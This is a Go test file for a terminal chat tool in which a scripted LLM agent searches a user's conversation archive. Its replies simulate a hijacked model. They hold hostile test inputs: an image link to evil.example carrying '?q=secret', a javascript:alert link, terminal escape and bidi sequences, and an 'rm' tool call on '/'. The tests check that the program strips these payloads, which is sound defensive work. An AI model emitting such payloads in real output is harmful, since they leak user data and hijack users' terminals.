package app

import (
	"context"
	"fmt"
	"iter"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"go.uber.org/goleak"

	"lens/agent"
	"lens/agent/agenttest"
	"lens/agent/openai"
	"lens/agent/tools"
)

// overHTTP returns a chat with a scripted server on loopback, using the real client, tools and run.
func overHTTP(server *agenttest.Server, e *fakeEngine) Chat {
	model := openai.New(server.Client(), openai.Options{BaseURL: server.URL, Key: "sk-canary", Model: "gpt-4o", Backoff: time.Millisecond})
	return Chat{
		Model: model.Name(), Host: "127.0.0.1", Local: true,
		Investigator: running{agent.Request{Model: model, Tools: tools.New(e, tools.Options{})}},
	}
}

// running is the real investigator.
type running struct{ request agent.Request }

func (r running) Investigate(ctx context.Context, messages []agent.Message) iter.Seq2[agent.Event, error] {
	r.request.Messages = messages
	return agent.Run(ctx, r.request)
}

// chatOn starts the explorer on a terminal, with a scripted model.
func chatOn(t testing.TB, e *fakeEngine, script agenttest.Script, width, height int) (*terminal, *agenttest.Server) {
	t.Helper()
	server := agenttest.New(t, script)
	term := start(context.Background(), t, Options{Archive: over(e), Chat: overHTTP(server, e)}, width, height)
	term.waitFor(t, fmt.Sprintf("%d turns", len(e.turns)))
	return term, server
}

func calls(tool string, arguments ...string) agenttest.Reply {
	r := agenttest.Reply{Chunks: 3}
	for _, a := range arguments {
		r.Calls = append(r.Calls, agenttest.Call{Name: tool, Arguments: a})
	}
	return r
}

// exploring scripts a peek, a zoom, two turns, and an answer.
func exploring(answer agenttest.Reply) agenttest.Script {
	return agenttest.Script{Replies: []agenttest.Reply{
		calls(agent.ToolPeek, `{"query": "cancel", "top_k": 100}`),
		calls(agent.ToolPeek, `{"query": "cancel", "start_time": "2024-04", "end_time": "2024-06", "top_k": 50, "top_n_snippets": 5}`),
		calls(agent.ToolTurn, `{"turn_id": "$1"}`, `{"turn_id": "$2"}`),
		answer,
	}}
}

func TestChatProgram_WholeInvestigation(t *testing.T) {
	answer := agenttest.Reply{Chunks: 1, Deltas: 5, Text: "You asked in *spring* [1], and again [2], not [7].\n\n![x](https://evil.example/?q=secret)\n"}
	term, server := chatOn(t, newFake(800), exploring(answer), 120, 40)
	term.press(t, "c")
	term.waitFor(t, "on this machine")
	term.press(t, "when did I cancel?")
	term.press(t, "\r")
	term.waitFor(t, "Removed 1 citation to a turn it hadn't read")
	term.waitFor(t, "/ cancel")
	term.waitFor(t, "All time › ")
	term.waitFor(t, "All time › Apr–May 2024")
	term.press(t, "zd")
	for _, line := range []string{"✓ searched  “cancel”", "✓ zoomed    “cancel” Apr 2024 – May 2024", "✓ read      [1]", "✓ read      [2]", "You asked in spring [1], and again [2], not.", "! x https://evil.example"} {
		term.waitFor(t, line)
	}
	term.press(t, "zn\r")
	term.waitFor(t, " Apr 2024, ")
	term.waitFor(t, "when did I cancel?")
	if n := len(server.Requests()); n != 4 {
		t.Errorf("the model was asked %d times", n)
	}
	term.press(t, "uuuuuu") // the jump, the two turns, the zoom, the peek
	term.waitFor(t, "/ search ")
	term.press(t, "U")
	term.waitUntil(t, "the peek", func(screen string) bool {
		return !strings.Contains(screen, "Apr–May 2024") && strings.Contains(screen, "/ cancel")
	})
	term.press(t, "U")
	term.waitFor(t, "All time › Apr–May 2024")
	term.press(t, "q")
	if err := term.ended(t); err != nil {
		t.Error(err)
	}
	term.mustBeRestored(t)
	if written := term.written.String(); strings.Contains(written, "sk-canary") || strings.Contains(written, "\x1b]8;") {
		t.Error("a key or a hyperlink was written to the terminal")
	}
}

// endless searches once, and streams words until the client disconnects: to the first question, and all others.
var endless = agenttest.Script{Replies: []agenttest.Reply{
	calls(agent.ToolPeek, `{"query": "cancel"}`), {Text: words(10_000), Delay: time.Millisecond},
}}

// words returns text that does not repeat.
func words(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "word word %d ", i)
	}
	return b.String()
}

func TestChatProgram_EscStopsAnswerAndModelCall(t *testing.T) {
	term, server := chatOn(t, newFake(30), endless, 80, 24)
	term.press(t, "cgo on?\r")
	term.waitFor(t, "word word")
	term.press(t, "\x1b")
	term.waitFor(t, "stopped (r asks again)")
	<-server.ClientGone() // otherwise this test never ends
	if !strings.Contains(term.shows(), "word word") {
		t.Errorf("the partial answer is gone:\n%s", term.shows())
	}
	term.press(t, "q")
	if err := term.ended(t); err != nil {
		t.Error(err)
	}
}

func TestChatProgram_CanceledStreamsLeakNothing(t *testing.T) {
	before := goleak.IgnoreCurrent()
	t.Run("run", func(t *testing.T) {
		term, server := chatOn(t, newFake(30), endless, 80, 24)
		for i := range 10 {
			term.press(t, fmt.Sprintf("cquestion %d?\r", i))
			term.waitUntil(t, "an answer", func(screen string) bool {
				return len(server.Requests()) == i+2 && strings.Contains(screen, "esc stops") && strings.Contains(screen, "word word")
			})
			switch (i + 2) % 3 { // stopped, interrupted, superseded
			case 0:
				term.press(t, "\x1b")
				term.waitUntil(t, "the end of it", func(screen string) bool { return !strings.Contains(screen, "esc stops") })
			case 1:
				term.press(t, "\x03")
				term.waitFor(t, "ctrl+c again quits")
			}
		}
		term.press(t, "q") // during the last one
		if err := term.ended(t); err != nil {
			t.Error(err)
		}
		if n := len(server.Requests()); n != 11 {
			t.Errorf("the server was asked %d times", n)
		}
		term.mustBeRestored(t)
	})
	goleak.VerifyNone(t, before,
		goleak.IgnoreAnyFunction("github.com/dlclark/regexp2.runClock"), goleak.IgnoreAnyFunction("github.com/charmbracelet/ultraviolet.(*TerminalReader).StreamEvents"))
}

func TestChatProgram_BrokenStreamIsNoAnswer(t *testing.T) {
	script := agenttest.Script{Replies: []agenttest.Reply{{Text: strings.Repeat("Half of it. ", 40), Fault: agenttest.Fault{Cut: 4000}}, {Text: "All of it.\n"}}}
	term, _ := chatOn(t, newFake(30), script, 80, 24)
	term.press(t, "cgo on?\r")
	term.waitFor(t, "error: ")
	term.press(t, "r")
	term.waitFor(t, "lines below") // it is shown from its start
	term.press(t, "G")
	term.waitFor(t, "All of it.")
	term.press(t, "q")
	if err := term.ended(t); err != nil {
		t.Error(err)
	}
}

// A hijacked model sends escape sequences in its answer and its tool calls.
func TestSanitize_Answers(t *testing.T) {
	run := func(texts []string) string {
		for i, text := range texts {
			texts[i] = text[:min(350, len(text))] // a longer one goes in circles, which ends the answer
		}
		text := strings.Join(texts, "\n\n") + "\n\n[click](javascript:alert(1)) ![](http://evil.example/x.png) <b>b</b> &#27;[2J &#x202e; [1]: http://evil.example\n\nthe end"
		script := agenttest.Script{Replies: []agenttest.Reply{
			calls(agent.ToolPeek, `{"query": "cancel \u001b[2J\u202e\u009b6n", "top_k": 9}`), calls("rm \x1b]0;owned\x07", `{"path": "/"}`), {Text: text, Deltas: 4099},
		}}
		e := newFake(30)
		for i := range e.turns {
			e.turns[i].Title = texts[i%len(texts)]
		}
		term, _ := chatOn(t, e, script, 120, 40)
		term.press(t, "c"+"well?\r")
		term.waitUntil(t, "the end", func(screen string) bool {
			term.press(t, "G") // again, since the answer turns to its start when it is complete
			return strings.Contains(screen, "cites nothing from your archive")
		})
		term.press(t, "zgz")
		term.press(t, "q")
		if err := term.ended(t); err != nil {
			t.Error(err)
		}
		term.mustBeRestored(t)
		return term.written.String()
	}
	plain := controls(run([]string{"mark " + strings.Repeat("word ", 30)}))
	plain = append(plain, "\x1b[2 q", "\x1b[0 q") // the cursor of the input, in frames that show it
	for _, seq := range controls(run(nasty())) {
		if !draws(seq) && !slices.Contains(plain, seq) {
			t.Errorf("%q reaches the terminal", seq)
		}
	}
}

// Measures from the key press to the screen, including the wait for bytes after an escape.
func BenchmarkChat_EscStops(b *testing.B) {
	term, _ := chatOn(b, newFake(30), endless, 80, 24)
	for b.Loop() {
		b.StopTimer()
		term.press(b, "cgo on?\r")
		term.waitFor(b, "esc stops")
		b.StartTimer()
		term.press(b, "\x1b")
		term.waitUntil(b, "the end of it", func(screen string) bool { return !strings.Contains(screen, "esc stops") })
	}
	term.press(b, "q")
	_ = term.ended(b)
}

// Measures from the model's first byte over HTTP to the word on the screen, polled every five milliseconds.
func BenchmarkChat_FirstWord(b *testing.B) {
	var sent atomic.Int64
	said := 0
	server := agenttest.NewFunc(b, func(r agenttest.Request) agenttest.Reply {
		if r.Messages[len(r.Messages)-1].Role == "user" { // an answer streams only once a call has worked
			return calls(agent.ToolPeek, `{"query": "cancel"}`)
		}
		said++
		sent.Store(time.Now().UnixNano())
		return agenttest.Reply{Text: fmt.Sprintf("word%d and the rest of it", said)}
	})
	e := newFake(30)
	term := start(context.Background(), b, Options{Archive: over(e), Chat: overHTTP(server, e)}, 80, 24)
	term.waitFor(b, "30 turns")
	var took []float64
	for b.Loop() {
		term.press(b, "cgo on?\r")
		term.waitFor(b, fmt.Sprintf("word%d ", len(took)+1))
		took = append(took, float64(time.Now().UnixNano()-sent.Load())/1e6)
		term.waitUntil(b, "the end of it", func(screen string) bool { return !strings.Contains(screen, "esc stops") })
	}
	term.press(b, "q")
	_ = term.ended(b)
	slices.Sort(took)
	b.ReportMetric(took[len(took)/2], "p50-ms-to-word")
	b.ReportMetric(took[len(took)-1], "max-ms-to-word")
}
